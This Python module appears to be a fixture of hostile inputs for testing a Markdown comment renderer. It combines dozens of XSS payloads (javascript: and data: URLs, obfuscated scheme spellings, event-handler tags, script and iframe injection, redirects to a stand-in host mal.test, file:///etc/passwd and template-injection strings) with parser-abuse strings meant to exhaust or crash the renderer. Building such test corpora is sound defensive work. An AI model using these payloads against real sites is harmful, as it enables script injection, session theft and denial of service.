"""Hostile comments: the known ways of running something, in the shapes that Markdown lets them take."""

from itertools import product

ACTOS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", "\x01javascript:alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>", "//mal.test", "/cuenta/salir/", "?orden=x", "#x", "file:///etc/passwd",
    "https://usuario:clave@mal.test", "blob:https://mal.test/1", "about:blank", "ws://mal.test", "%6A%61vascript:alert(1)",
    "https://mal.test\"onmouseover=alert(1)//", "https://mal.test'onmouseover=alert(1)", "http://[::1", "https://mal.test/<svg/onload=alert(1)>",
)  # fmt: skip
FORMAS = (
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "![x]({})",
    "[x]: {}\n\n[x]",
    '[x]({} "t")',
    "[![x]({})](https://a.test)",
    "{}",
)
ETIQUETAS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//mal.test></script>", "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>x",
    "<a href=javascript:alert(1)>x</a>", "<a href='x' onclick=alert(1)>x</a>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<style>*{background:url(//mal.test)}</style>", "<link rel=stylesheet href=//mal.test>", "<meta http-equiv=refresh content='0;//mal.test'>",
    "<base href=//mal.test>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</article></main><script>alert(1)</script>", "--><script>alert(1)</script>", "<!--<script>-->alert(1)", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>", "{{ 7*7 }}{% include '/etc/passwd' %}", "${alert(1)}", "<div hx-get='/cuenta/salir/' hx-trigger='load'>",
    "<p style='position:fixed'>x</p>", "<x contenteditable onblur=alert(1)>",
)  # fmt: skip
MARCOS = ("{}", "**{}**", "> {}", "- {}", "1. {}", "`{}`", "```\n{}\n```", "[{}](https://a.test)")
ABUSOS = (
    "*" * 3000, "[" * 3000, "](" * 1500, ">" * 3000, "- " * 1500, "`" * 2999, "<" * 3000, "&" * 3000, "\\" * 3000,
    "".join(f"{'>' * n} x\n" for n in range(60)), "".join("  " * n + "- x\n" for n in range(50)), "_a_" * 1000, "*a **a " * 400,
    "a" + "\u0301" * 2000, "\u202e" + "abc" * 10, "[x](" + "(" * 1400 + ")" * 1400 + ")", "![" * 1500, "\x00" * 50 + "x", "\ud7ff\ufffe x",
)  # fmt: skip
HOSTILES = (
    *(forma.format(acto) for forma, acto in product(FORMAS, ACTOS)),
    *(marco.format(etiqueta) for marco, etiqueta in product(MARCOS, ETIQUETAS)),
    *ABUSOS,
)
